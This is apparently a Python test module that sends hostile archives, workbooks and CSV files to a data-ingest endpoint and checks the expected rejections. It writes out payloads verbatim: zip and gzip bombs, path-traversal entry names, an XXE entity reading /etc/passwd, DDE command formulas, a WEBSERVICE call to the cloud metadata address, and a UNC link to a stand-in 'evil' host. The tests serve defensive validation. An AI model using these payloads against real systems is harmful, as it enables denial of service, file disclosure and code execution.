"""Archives and workbooks that mean harm."""

# ruff: noqa: E501 - tables, one case a line

import gzip
import io
import struct
import zipfile
from collections.abc import Callable
from typing import Any

from tests.integration.ingest.hostile import ANY, CSV, GZIP, JSON, OVER, ZIP, Attack, Body, post
from tests.integration.ingest.hostile_persons import GOOD_VALUE, a_zip
from tests.unit.ingest import test_hostile_sheets as sheets
from tests.unit.ingest.sheet_files import BHYT_HEAD, LONG_HEAD, ods, rezip, xlsx

GOOD = f'{{"dataValues":[{GOOD_VALUE}]}}'.encode()
FORMAT, BROKEN, LARGE, TAKEN = "unsupported_format", "malformed_body", "body_too_large", "taken"


def nested(depth: int) -> bytes:
    """Like 42.zip: zips in a zip, with zeros at the bottom."""
    body = a_zip(zeros=b"\0" * 1_000_000)
    for _ in range(depth):
        body = a_zip(**{f"{number}.zip": body for number in range(16)})
    return body


def overlapping() -> bytes:
    """Two entries of the directory that share one content."""
    body = a_zip(**{"a.json": GOOD})
    at, end = body.index(b"PK\1\2"), body.index(b"PK\5\6")
    entry = body[at:end]
    tail = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, 2, 2, 2 * len(entry), at, 0)
    return body[:at] + entry + entry.replace(b"a.json", b"b.json") + tail


def with_sizes(size: int, body: bytes | None = None) -> bytes:
    """A zip of zeros whose directory lies of their size."""
    body = body or a_zip(zeros=b"\0" * 3_000_000)
    at = body.index(b"PK\1\2")
    return body[: at + 24] + struct.pack("<I", size) + body[at + 28 :]


def zip64_lie() -> bytes:
    """A zip that says it holds 2**63 bytes."""
    body = bytearray(with_sizes(0xFFFFFFFF))
    at = body.index(b"PK\1\2")
    name, extra = struct.unpack("<HH", body[at + 28 : at + 32])
    more = struct.pack("<HHQ", 1, 8, 1 << 63)
    body[at + 30 : at + 32] = struct.pack("<H", extra + len(more))
    body[at + 46 + name : at + 46 + name] = more
    end = body.index(b"PK\5\6")
    size = struct.unpack("<I", body[end + 12 : end + 16])[0]
    body[end + 12 : end + 16] = struct.pack("<I", size + len(more))
    return bytes(body)


def stored_first(make: Callable[[], bytes]) -> Callable[[], bytes]:
    """The workbook with its media type stored, as every program writes that of an ODS: it is told by it."""

    def build() -> bytes:
        body = make()
        if b"mimetype" not in body[:60]:
            return body
        stored = io.BytesIO()
        with zipfile.ZipFile(io.BytesIO(body)) as old, zipfile.ZipFile(stored, "w", zipfile.ZIP_DEFLATED) as new:
            for entry in old.infolist():
                how = zipfile.ZIP_STORED if entry.filename == "mimetype" else zipfile.ZIP_DEFLATED
                new.writestr(entry.filename, old.read(entry), how)
        return stored.getvalue()

    return build


def encrypted() -> bytes:
    body = bytearray(a_zip(**{"a.json": GOOD}))
    body[body.index(b"PK\1\2") + 8] |= 1
    body[6] |= 1
    return bytes(body)


def packed(method: int) -> bytes:
    stored = io.BytesIO()
    with zipfile.ZipFile(stored, "w", method) as archive:
        archive.writestr("a.json", GOOD)
    return stored.getvalue()


def one(name: str) -> bytes:
    return a_zip(**{name: GOOD})


def long_name_gzip() -> bytes:
    return b"\x1f\x8b\x08\x08\0\0\0\0\0\xff" + b"n" * 500_000


def formula_book(formula: str, result: Any = "") -> bytes:
    return xlsx((*BHYT_HEAD, (1, "06184", "Thị trấn Đồng Đăng", formula, 3620, 3401, 3498)), result=result)


def text_row(code: str, number: str) -> bytes:
    row = (code, "", "BHYT", "9T/2024", "Nam", "", number, "3512", "")
    return "\n".join([";".join(LONG_HEAD), ";".join(row)]).encode()


_ARCHIVES: list[tuple[str, Body, int | tuple[int, ...], str, str]] = [
    ("a zip bomb of one file", lambda: a_zip(zeros=b" " * OVER), 413, LARGE, ZIP),
    ("zips in zips in zips (42.zip)", lambda: nested(2), 415, FORMAT, ZIP),
    ("a zip of one zip", lambda: a_zip(**{"a.zip": a_zip(x=GOOD)}), 415, FORMAT, ZIP),
    ("a gzip in a zip", lambda: a_zip(x=gzip.compress(GOOD)), 415, FORMAT, ZIP),
    ("entries that overlap", overlapping, 415, FORMAT, ZIP),
    ("a zip that lies small", lambda: with_sizes(10), 400, BROKEN, ZIP),
    ("a zip that lies nothing", lambda: with_sizes(0), 400, BROKEN, ZIP),
    ("a zip that lies 4 GB", lambda: with_sizes(0xFFFFFFFE), 415, FORMAT, ZIP),
    ("a zip64 that lies 8 EB", zip64_lie, 415, FORMAT, ZIP),
    ("an encrypted zip", encrypted, 415, FORMAT, ZIP),
    ("a zip packed with bzip2", lambda: packed(zipfile.ZIP_BZIP2), 415, FORMAT, ZIP),
    ("a zip packed with LZMA", lambda: packed(zipfile.ZIP_LZMA), 415, FORMAT, ZIP),
    ("a zip cut off", lambda: one("a.json")[:-40], 400, BROKEN, ZIP),
    ("a zip of nothing", b"PK\5\6" + b"\0" * 18, 415, FORMAT, ZIP),
    ("a zip of 20,000 files", lambda: a_zip(**{f"f{n}": b"" for n in range(20_000)}), 415, FORMAT, ZIP),
    ("a zip of a folder only", lambda: a_zip(**{"a/": b""}), 415, FORMAT, ZIP),
    ("a path to the parents in a zip", lambda: one("../../../../etc/cron.d/x"), (200, 202), TAKEN, ZIP),
    ("an absolute path in a zip", lambda: one("/etc/passwd"), 200, TAKEN, ZIP),
    ("a drive in a zip", lambda: one("C:\\Windows\\x.json"), 200, TAKEN, ZIP),
    ("a line break in a name in a zip", lambda: one("a\r\nSet-Cookie: x.json"), 200, TAKEN, ZIP),
    ("a program that is a zip", lambda: b"MZ\x90\0" + one("a.json"), 415, FORMAT, ZIP),
    ("a gzip bomb", lambda: gzip.compress(b" " * OVER), 413, LARGE, GZIP),
    ("a gzip in a gzip", lambda: gzip.compress(gzip.compress(GOOD)), 415, FORMAT, GZIP),
    ("a zip in a gzip", lambda: gzip.compress(one("a.json")), 415, FORMAT, GZIP),
    ("a gzip cut off", lambda: gzip.compress(GOOD)[:-9], 400, BROKEN, GZIP),
    ("a gzip with a wrong sum", lambda: gzip.compress(GOOD)[:-8] + b"\0" * 8, 400, BROKEN, GZIP),
    ("a gzip followed by nonsense", lambda: gzip.compress(GOOD) + b"nonsense", 400, BROKEN, GZIP),
    ("a gzip with an endless name", long_name_gzip, 400, BROKEN, GZIP),
    ("a gzip of 10,000 empty members", lambda: gzip.compress(b"") * 10_000, 400, BROKEN, GZIP),
    ("a RAR", b"Rar!\x1a\x07\x01\0" + b"\0" * 99, 415, FORMAT, ANY),
    ("a 7z", b"7z\xbc\xaf\x27\x1c" + b"\0" * 99, 415, FORMAT, ANY),
    ("a PDF named .xlsx", b"%PDF-1.7\n" + b"\0" * 99, 415, FORMAT, ANY),
    ("a program", b"\x7fELF" + b"\0" * 99, 415, FORMAT, ANY),
    ("random bytes", bytes(range(256)) * 40, 415, FORMAT, ANY),
]  # fmt: skip

_ENCODED: list[tuple[str, Body, int, str, str]] = [
    ("a gzip bomb as encoding", lambda: gzip.compress(b" " * OVER), 413, LARGE, "gzip"),
    ("a gzip in a gzip as encoding", lambda: gzip.compress(gzip.compress(GOOD)), 415, FORMAT, "gzip"),
    ("a zip in an encoding", lambda: gzip.compress(one("a.json")), 415, FORMAT, "gzip"),
    ("plain text announced as gzip", GOOD, 400, BROKEN, "gzip"),
    ("two encodings", lambda: gzip.compress(GOOD), 415, FORMAT, "gzip, gzip"),
    ("deflate", GOOD, 415, FORMAT, "deflate"),
    ("an encoding nobody knows", GOOD, 415, FORMAT, "x" * 9_000),
]

# From the hostile workbooks of the unit tests; the others differ in the part that is spoilt, not in what is answered.
_SPOILT = {
    "zip bomb": 413, "many parts": 413, "nested zip": 400, "far apart": 413, "repeated columns": 413, "repeated rows": 413,
    "laughs": 400, "utf-16 doctype": 400, "truncated": 400, "encrypted entries": 400, "encrypted workbook": 400,
    "ole of nothing": 400, "cut xls": 400, "wide sheet": 413,
}  # fmt: skip
XXE = b'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
_BOOKS: list[tuple[str, Body, tuple[int, ...], str, str]] = [
    ("a formula without a result", lambda: formula_book("=1+1"), (200, 202, 422), "uncomputed_formula", ANY),
    (
        "a formula that runs a program",
        lambda: formula_book("=cmd|' /C calc'!A0"),
        (200, 202, 422),
        "uncomputed_formula",
        ANY,
    ),
    (
        "a formula that asks the network",
        lambda: formula_book('=WEBSERVICE("http://169.254.169.254/")'),
        (200, 202, 422),
        "uncomputed_formula",
        ANY,
    ),
    (
        "a link to another file",
        lambda: formula_book("='[\\\\evil\\share\\x.xlsx]S'!A1"),
        (200, 202, 422),
        "uncomputed_formula",
        ANY,
    ),
    (
        "a workbook of macros",
        lambda: rezip(sheets.GOOD, **{"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 macro"}),
        (200, 202),
        "",
        ANY,
    ),
    (
        "an external entity in a sheet",
        lambda: sheets.spoilt(sheets.SHEET, b"<worksheet", XXE + b"<worksheet"),
        (400,),
        BROKEN,
        ANY,
    ),
    ("ODS with a script in a cell", lambda: ods((("=cmd()", "x"), ("y", "z"))), (400,), BROKEN, ANY),
    ("CSV that runs a program", text_row("06184", "=cmd|' /C calc'!A0"), (200, 202, 422), "not_a_number", CSV),
    ("CSV with a command for a code", text_row("@SUM(1+1)", "3401"), (422,), "unknown_commune", CSV),
    ("CSV with a path for a code", text_row("../../etc/passwd", "3401"), (422,), "unknown_commune", CSV),
]

ATTACKS: list[Attack] = [
    *(post(name, body, status, reason, kind) for name, body, status, reason, kind in _ARCHIVES),
    *(post(name, body, status, reason, JSON, Content_Encoding=how) for name, body, status, reason, how in _ENCODED),
    *(post(name, body, statuses, reason, kind) for name, body, statuses, reason, kind in _BOOKS),
    *(
        post(f"workbook: {name}", stored_first(make), (_SPOILT[name], 400), "", ANY)
        for name, make, _ in sheets.HOSTILE
        if name in _SPOILT
    ),
]
